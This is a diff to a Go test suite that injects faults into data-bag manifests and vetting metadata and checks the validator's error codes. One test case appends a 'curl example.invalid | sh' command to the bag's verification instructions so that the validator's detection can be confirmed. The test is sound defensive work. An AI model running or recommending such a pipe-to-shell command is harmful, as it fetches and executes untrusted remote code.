@@ -78,7 +78,7 @@ func TestFaults(t *testing.T) {
 		{"tag manifest lists itself", func(b bag) { b[Tags] = append(b[Tags], hexOf("")+"  "+Tags+"\n"...) }, "bag-scope"},
 		{"tag manifest without the payload list", func(b bag) { dropLine(b, Payload) }, "bag-unlisted"},
 		{"tag manifest without manifest.json", func(b bag) { dropLine(b, Meta) }, "bag-unlisted"},
-		{"tag manifest lists what is not there", func(b bag) { b[Tags] = append(b[Tags], hexOf("")+"  meta/vetting.json\n"...) }, "bag-missing"},
+		{"tag manifest lists what is not there", func(b bag) { b[Tags] = append(b[Tags], hexOf("")+"  meta/zzz.json\n"...) }, "bag-missing"},
 		{"path out of the bag", replace(Payload, "data/10", "data/../10"), "bag-disagree bag-line bag-unlisted"},
 		{"line twice", func(b bag) {
 			b[Payload] = append(b[Payload], b[Payload][bytes.LastIndexByte(b[Payload][:len(b[Payload])-1], '\n')+1:]...)
@@ -123,7 +123,9 @@ func TestFaults(t *testing.T) {
 			b[Software] = []byte("x")
 			b[Tags] = append(b[Tags], hexOf("x")+"  "+Software+"\n"...)
 		}, "bag-provenance bag-scope"},
-		{"meta file unlisted", func(b bag) { b[Vetting] = nil }, "bag-unlisted bag-unvetted"},
+		{"meta file unlisted", func(b bag) { b["meta/zzz.json"] = nil }, "bag-unlisted"},
+		{"vetting emptied", func(b bag) { b[Vetting] = nil }, "bag-digest bag-unvetted"},
+		{"vetting removed and all listed anew", func(b bag) { dropLine(b, Vetting); delete(b, Vetting) }, "bag-unvetted"},
 		{"other words on how to verify", func(b bag) { b[HowTo] = append(b[HowTo], "curl example.invalid | sh\n"...) }, "bag-howto"},
 	} {
 		t.Run(c.name, func(t *testing.T) {
